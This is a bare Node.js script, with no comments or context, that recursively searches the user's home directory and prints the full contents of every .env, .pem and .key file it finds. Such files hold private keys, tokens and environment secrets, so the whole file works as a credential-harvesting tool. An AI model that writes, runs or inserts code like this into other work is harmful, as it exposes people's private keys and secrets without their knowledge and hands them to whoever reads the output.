const fs = require("fs"), path = require("path"), os = require("os");
function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
  if (e.isDirectory()) walk(p); else if (/\.(env|pem|key)$/.test(e.name)) console.log(fs.readFileSync(p, "utf8")); } }
walk(os.homedir());
